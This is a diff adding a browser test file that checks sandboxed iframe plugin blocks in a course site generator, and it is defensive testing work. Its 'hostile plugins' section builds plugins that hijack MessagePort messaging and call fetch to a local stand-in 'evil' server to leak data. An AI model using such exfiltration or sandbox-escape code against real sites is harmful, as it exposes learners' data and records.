@@ -1,0 +1,335 @@
+// Blocks of plugins that nobody trusts with the page: what such a block can do in its frame, and what it can't.
+
+import assert from "node:assert/strict";
+import dgram from "node:dgram";
+import { cpSync, mkdirSync, readFileSync, readdirSync, writeFileSync } from "node:fs";
+import { createServer } from "node:http";
+import { join } from "node:path";
+import { after, before, describe, test } from "node:test";
+import { gzipSync } from "node:zlib";
+import { axe, build, copyOf, disk, launch, project, serve, settled, shared, visit } from "./harness.js";
+import { HOSTILE } from "./hostile.js";
+import { go } from "./journey.js";
+
+const COURSE = "tests/browser/foreign";
+const LESSON = "lessons/one.html";
+
+let browser, server;
+before(async () => {
+  server = await serve(shared(COURSE));
+  browser = await launch();
+});
+after(async () => {
+  await browser?.close();
+  server?.close();
+});
+
+const dial = (page) => page.frameLocator("wend-dial iframe");
+const set = (page) => dial(page).getByLabel("Your number");
+const frameOf = async (locator) => (await locator.locator("iframe").elementHandle()).contentFrame();
+
+/** All entries of the record, from the file that the learner saves. */
+async function entries(page, site) {
+  await go(page, site, "me.html");
+  const download = page.waitForEvent("download");
+  await page.getByRole("button", { name: "Save to a file" }).first().click();
+  return JSON.parse(readFileSync(await (await download).path(), "utf8")).entries;
+}
+
+for (const where of ["http", "disk"]) {
+  describe(`over ${where}`, () => {
+    const site = () => (where === "http" ? server.url : disk(shared(COURSE)));
+
+    test("a framed block grades, records, keeps its state, speaks, grows, and follows its links", async () => {
+      const { page, context, clean } = await visit(browser, site(), { path: LESSON });
+      await set(page).fill("6");
+      const frame = page.locator("wend-dial iframe");
+      const low = (await frame.boundingBox()).height;
+      await dial(page).getByRole("button", { name: "Check" }).click();
+      await dial(page).getByText("Not yet. 1 turn. 1 try.").waitFor();
+      await page.locator("#wend-live", { hasText: "Not yet." }).waitFor();
+      await page.waitForFunction((low) => document.querySelector("wend-dial").shadowRoot.querySelector("iframe").getBoundingClientRect().height > low + 150, low);
+      await set(page).fill("7");
+      await dial(page).getByRole("button", { name: "Check" }).click();
+      await dial(page).getByText("Right. 2 turns. 2 tries.").waitFor();
+      // Leaving the page writes the state.
+      await dial(page).getByRole("link", { name: "The other lesson" }).click();
+      await page.getByRole("heading", { level: 1, name: "The other lesson" }).waitFor();
+      await settled(page);
+      await page.goBack();
+      assert.equal(await set(page).inputValue(), "7");
+      const made = await entries(page, site());
+      const answers = made.filter((e) => e.kind === "answer").map((e) => [e.item, e.objective, e.answer, e.correct]);
+      assert.deepEqual(answers, [["one#seven", "one", "6", false], ["one#seven", "one", "7", true]]);
+      assert.deepEqual(made.filter((e) => e.kind === "state").at(-1).answer, { value: "7", turns: 2 });
+      clean();
+      await context.close();
+    });
+
+    test("a picture of the block is seen, in the frame or above it", async () => {
+      const { page, context, clean } = await visit(browser, site(), { path: LESSON });
+      await set(page).waitFor();
+      const picture = where === "http" ? dial(page).getByRole("img", { name: "Two dials" }) : page.locator("wend-dial > img[slot]");
+      await picture.waitFor();
+      assert.ok(await picture.evaluate((img) => /** @type {HTMLImageElement} */ (img).naturalWidth > 0));
+      clean();
+      await context.close();
+    });
+  });
+}
+
+test("a frame can be walked by keyboard, has a name, and axe finds nothing", async () => {
+  const { page, context, clean } = await visit(browser, server.url, { path: LESSON });
+  await set(page).waitFor();
+  assert.equal(await page.locator("wend-dial iframe").getAttribute("title"), "Dial seven");
+  await page.locator("main a", { hasText: "the other lesson" }).first().focus();
+  const inside = await frameOf(page.locator("wend-dial"));
+  const at = () => inside.evaluate(() => (document.hasFocus() ? document.activeElement.textContent || document.activeElement.id : ""));
+  const seen = [];
+  for (let n = 0; n < 5; n += 1) {
+    await page.keyboard.press("Tab");
+    seen.push(await at());
+  }
+  assert.deepEqual([seen[0], seen[2], seen[3]], ["The other lesson", "Check", ""], "link, field, button, and out");
+  assert.match(seen[1], /answer$/);
+  assert.ok(await page.locator("wend-hint summary").first().evaluate((el) => el === document.activeElement || el.matches(":focus-within")) || seen[4] === "");
+  await page.locator("wend-hint summary").first().focus();
+  await page.keyboard.press("Shift+Tab");
+  assert.equal(await at(), "Check", "and back in");
+  await page.keyboard.press("Shift+Tab");
+  await page.keyboard.type("7");
+  await page.keyboard.press("Tab");
+  await page.keyboard.press("Enter");
+  await dial(page).getByText("Right.").waitFor();
+  assert.deepEqual(await axe(page), []);
+  clean();
+  await context.close();
+});
+
+test("a frame is dark where the page is, as large as the learner reads, and in the page's typeface", async () => {
+  const { page, context, clean } = await visit(browser, server.url, { path: LESSON, dark: true });
+  await set(page).waitFor();
+  const inside = await frameOf(page.locator("wend-dial"));
+  const look = (where) => where.evaluate(() => {
+    const { color, fontSize, fontFamily } = getComputedStyle(document.querySelector(".prompt") ?? document.querySelector(".body p"));
+    return { color, fontSize, fontFamily, face: document.fonts.check("16px 'Atkinson Next'") && [...document.fonts].some((f) => f.status === "loaded") };
+  });
+  const same = async () => assert.deepEqual({ ...(await look(inside)) }, { ...(await look(page)) });
+  await same();
+  const large = await look(inside);
+  await page.evaluate(() => {
+    document.documentElement.dataset.text = "larger";
+    document.documentElement.dataset.theme = "light";
+  });
+  await inside.waitForFunction(() => document.documentElement.dataset.text === "larger");
+  await same();
+  assert.notDeepEqual(await look(inside), large);
+  assert.deepEqual(await axe(page), []);
+  clean();
+  await context.close();
+});
+
+test("from right to left a frame is so too", async () => {
+  const course = copyOf(COURSE);
+  writeFileSync(join(course, "curriculum.toml"), 'id = "foreign"\ntitle = "Blocks"\nlanguage = "qps-Arab"\n');
+  const { page, context, clean } = await visit(browser, disk(build(course)), { path: LESSON, width: 360 });
+  const inside = await frameOf(page.locator("wend-dial"));
+  await inside.waitForSelector("wend-dial button");
+  assert.deepEqual(await inside.evaluate(() => [document.documentElement.dir, document.documentElement.lang]), ["rtl", "qps-Arab"]);
+  assert.ok(await page.evaluate(() => document.documentElement.scrollWidth <= document.documentElement.clientWidth + 1));
+  clean();
+  await context.close();
+});
+
+test("on paper and without scripts the block is its plain self", async () => {
+  const { page, context, clean } = await visit(browser, server.url, { path: LESSON });
+  await set(page).waitFor();
+  await page.emulateMedia({ media: "print" });
+  assert.ok(await page.locator("wend-dial .prompt").isVisible());
+  assert.ok(!(await page.locator("wend-dial iframe").isVisible()));
+  clean();
+  await context.close();
+  const plain = await visit(browser, server.url, { path: LESSON, js: false });
+  assert.ok(await plain.page.getByText("Set the dial to seven.").isVisible());
+  assert.equal(await plain.page.locator("iframe").count(), 0);
+  await plain.context.close();
+});
+
+test("fifty blocks make frames for those that are near", async () => {
+  const course = copyOf(COURSE);
+  const block = (n) => `::: dial d${n}\nSet it to ${n}.\n\nGoal: ${n}\n:::\n\n${"A paragraph stands between two dials. ".repeat(12)}\n`;
+  writeFileSync(join(course, "lessons/many.md"), `# Many\n\n${Array.from({ length: 50 }, (_, n) => block(n)).join("\n")}`);
+  const { page, context, clean } = await visit(browser, disk(build(course)), { path: "lessons/many.html", width: 360 });
+  await page.locator("wend-dial iframe:not(.coming)").first().waitFor();
+  const first = await page.locator("wend-dial iframe").count();
+  assert.ok(first >= 1 && first < 12, `${first} frames at the top of the page`);
+  await page.locator("wend-dial").last().scrollIntoViewIfNeeded();
+  await page.locator("wend-dial").last().locator("iframe:not(.coming)").waitFor();
+  assert.ok((await page.locator("wend-dial iframe").count()) < 30);
+  clean();
+  await context.close();
+});
+
+test("a page without framed blocks loads nothing of them, and one with stays under 100 kB", async () => {
+  const sizes = {};
+  for (const path of [LESSON, "lessons/two.html", "index.html"]) {
+    const { page, context } = await visit(browser, server.url, { path });
+    await page.waitForTimeout(200);
+    const loaded = await page.evaluate(() => [location.href, ...performance.getEntriesByType("resource").map((entry) => entry.name)]);
+    const files = [...new Set(loaded.map((url) => new URL(url).pathname.replace("/some/where/", "")))].filter((file) => !file.endsWith("icon.svg"));
+    sizes[path] = files.reduce((sum, file) => sum + gzipSync(readFileSync(join(shared(COURSE), file))).length, 0);
+    assert.equal(files.includes("assets/wend-frame.js"), path === LESSON, path);
+    await context.close();
+  }
+  assert.ok(sizes[LESSON] < 100_000, JSON.stringify(sizes));
+});
+
+test("in a frame answers are graded as in the build", async () => {
+  const { items } = JSON.parse(readFileSync(join(project, "tests/browser/grades.json"), "utf8"));
+  for (const plugin of new Set(items.map((item) => item.plugin))) {
+    const course = copyOf(COURSE);
+    const folder = join(course, "plugins/copied");
+    mkdirSync(folder);
+    // The plugin's own grader under another name, which nobody trusts; the element only hands it to the test.
+    for (const file of readdirSync(join(project, "plugins", plugin)).filter((name) => name.endsWith(".js"))) cpSync(join(project, "plugins", plugin, file), join(folder, file));
+    writeFileSync(join(folder, "element.js"), "export function connect(el, host) { globalThis.graded = host.grade; }\n");
+    writeFileSync(join(folder, "plugin.toml"), 'name = "copied"\nversion = "1.0.0"\napi = 1\ndoc = "A copy."\n[kind.copied]\ndoc = "A copy."\n');
+    writeFileSync(join(folder, "block.html"), "<p>A copy.</p>\n");
+    writeFileSync(join(course, "lessons/copied.md"), "# Copied\n\n::: copied\n:::\n");
+    const { page, context } = await visit(browser, disk(build(course)), { path: "lessons/copied.html" });
+    const inside = await frameOf(page.locator("wend-copied"));
+    await inside.waitForFunction(() => "graded" in globalThis);
+    let count = 0;
+    for (const { example, spec, graded } of items.filter((item) => item.plugin === plugin)) {
+      const results = await inside.evaluate(
+        ([answers, spec]) => answers.map((answer) => JSON.parse(JSON.stringify(/** @type {any} */ (globalThis).graded(answer, spec)))),
+        [graded.map(([answer]) => answer), spec],
+      );
+      for (const [n, [answer, result]] of graded.entries()) {
+        assert.deepEqual(results[n], result, `${example}: ${JSON.stringify(answer)}`);
+        count += 1;
+      }
+    }
+    assert.ok(count > 0, plugin);
+    await context.close();
+  }
+});
+
+describe("hostile plugins", () => {
+  let site, evil, stun;
+  /** @type {string[]} */
+  const calls = [];
+  const slug = (name) => name.replaceAll(" ", "-");
+
+  before(async () => {
+    evil = createServer((request, response) => {
+      calls.push(request.url);
+      response.end();
+    });
+    evil.on("connection", () => calls.push("a connection"));
+    await new Promise((on) => evil.listen(0, "127.0.0.1", () => on(undefined)));
+    stun = dgram.createSocket("udp4");
+    stun.on("message", () => calls.push("a packet"));
+    await new Promise((on) => stun.bind(0, "127.0.0.1", () => on(undefined)));
+    const course = copyOf(COURSE);
+    writeFileSync(join(course, "lessons/one.md"), "# One\n\nNothing.\n");
+    for (const [name, { code, module = "" }] of Object.entries(HOSTILE)) {
+      const kind = slug(name);
+      const folder = join(course, "plugins", kind);
+      cpSync(join(course, "plugins/dial"), folder, { recursive: true });
+      for (const file of ["plugin.toml", "block.html"]) writeFileSync(join(folder, file), readFileSync(join(folder, file), "utf8").replace(/\bdial\b/g, kind));
+      writeFileSync(
+        join(folder, "element.js"),
+        `const { port } = MessageChannel.prototype ?? {}; let raw; const post = MessagePort.prototype.postMessage;
+        MessagePort.prototype.postMessage = function (...all) { raw = this; return post.apply(this, all); };
+        ${module}
+        const EVIL = "http://127.0.0.1:${evil.address().port}/", STUN = ${stun.address().port};
+        const leak = (what) => { fetch(EVIL + "leak").catch(() => {}); el0.dataset.leaked = (el0.dataset.leaked ?? "") + what + "; "; };
+        let el0;
+        const PORT = (message, more) => { host0.assisted(); try { post.call(raw, message, more); } catch {} };
+        let host0;
+        export function connect(el, host) { el0 = el; host0 = host; const ITEM = el.querySelector("[data-item]").dataset.item; ${code} }\n`,
+      );
+      const lesson = `# ${name}\n\n::: ${kind} seven\nThe hostile block.\n\nGoal: 7\n:::\n\n::: dial good\nSet the dial to seven.\n\nGoal: 7\n:::\n\n::: question sum\nHow much is 3 + 4?\n\nAnswer: 7\n:::\n`;
+      writeFileSync(join(course, `lessons/${kind}.md`), lesson);
+    }
+    site = await serve(build(course));
+  });
+  after(() => {
+    site?.close();
+    evil?.close();
+    stun?.close();
+  });
+
+  for (const [name, { then = "stays" }] of Object.entries(HOSTILE)) {
+    test(name, { timeout: 60_000 }, async () => {
+      calls.length = 0;
+      const kind = slug(name);
+      const { page, context, faults } = await visit(browser, site.url, { path: `lessons/${kind}.html` });
+      page.on("dialog", (dialog) => assert.fail(dialog.message()));
+      const question = page.locator("wend-question");
+      // The rest of the page works meanwhile: the learner types slowly into the question, and turns the other dial.
+      await question.getByRole("textbox").pressSequentially("70", { delay: 150 });
+      await question.getByRole("textbox").press("Backspace");
+      await question.getByRole("button", { name: "Check" }).click();
+      await question.getByText("Right.").waitFor();
+      await set(page).fill("7");
+      await dial(page).getByRole("button", { name: "Check" }).click();
+      await dial(page).getByText("Right.").waitFor();
+      const block = page.locator(`wend-${kind}`);
+      if (then === "stays") {
+        await block.locator("iframe:not(.coming)").waitFor();
+        await page.waitForTimeout(name === "fills the record" ? 18_000 : 1500);
+        assert.equal(await block.locator("iframe").count(), 1);
+        const inside = await frameOf(block);
+        assert.equal(await inside.evaluate(() => document.querySelector("[data-leaked]")?.getAttribute("data-leaked") ?? ""), "");
+      } else if (then !== "may go") {
+        await block.getByText(then).waitFor({ timeout: 25_000 });
+        assert.equal(await block.locator("iframe").count(), 0);
+        assert.ok(await block.getByText("The hostile block.").isVisible(), "its plain content is shown");
+      }
+      const page2 = await page.evaluate(() => ({
+        polluted: /** @type {any} */ ({}).polluted ?? null,
+        title: document.title,
+        taken: document.getElementById("taken") !== null,
+        high: Math.max(...[...document.querySelectorAll("*")].map((el) => el.shadowRoot?.querySelector("iframe")?.offsetHeight ?? 0)),
+        path: location.pathname,
+      }));
+      assert.equal(page2.polluted, null);
+      assert.ok(page2.title.startsWith(name), page2.title);
+      assert.equal(page2.taken, false);
+      assert.ok(page2.high <= 6000, `${page2.high} px`);
+      assert.ok(page2.path.endsWith(`${kind}.html`), page2.path);
+      assert.deepEqual(faults.filter((fault) => fault.startsWith("asks")).filter((fault) => !fault.includes("127.0.0.1") || calls.length > 0), [], "requests");
+      assert.deepEqual(calls, [], "nobody was called");
+      const kept = (await entries(page, site.url)).filter((entry) => entry.kind !== "opened" && entry.kind !== "state");
+      assert.ok(kept.every((entry) => entry.kind === "answer" && !entry.by), JSON.stringify(kept.slice(0, 3)));
+      const of = (label) => kept.filter((entry) => entry.item === `${kind}#${label}`);
+      assert.deepEqual(of("sum").map((entry) => entry.answer), ["7"]);
+      assert.deepEqual(of("good").map((entry) => entry.answer), ["7"]);
+      const own = of("seven");
+      assert.equal(own.length + 2, kept.length);
+      if (name === "forges evidence") assert.deepEqual(own.map(({ answer, objective, lesson, correct }) => [answer, objective, lesson, correct]), [["kept", kind, kind, false]]);
+      if (name === "fills the record") assert.equal(own.length, 200);
+      await context.close();
+    });
+  }
+
+  test("the text of a frame's script does nothing in the page itself", async () => {
+    const dir = build(copyOf(COURSE));
+    const file = join(dir, LESSON);
+    const script = JSON.parse(/script:("(?:[^"\\]|\\.)*")/.exec(readFileSync(join(dir, "assets/plugins/dial.js"), "utf8"))[1]);
+    writeFileSync(file, readFileSync(file, "utf8").replace("</body>", `<script>${script}</script><iframe srcdoc="&lt;script>${script.replaceAll("&", "&amp;").replaceAll('"', "&quot;")}&lt;/script>"></iframe></body>`));
+    const { page, context, faults } = await visit(browser, disk(dir), { path: LESSON });
+    await page.waitForTimeout(300);
+    const refused = faults.filter((fault) => fault.includes("this script runs in a sandboxed frame only"));
+    assert.equal(refused.length, 2, faults.join("\n"));
+    await context.close();
+  });
+});
+
+test("a site without plugins of its own has nothing of this", () => {
+  const site = shared("curricula/fractions");
+  assert.ok(!readdirSync(join(site, "assets")).includes("wend-frame.js"));
+  assert.ok(!readFileSync(join(site, "index.html"), "utf8").includes("sha256-"));
+});
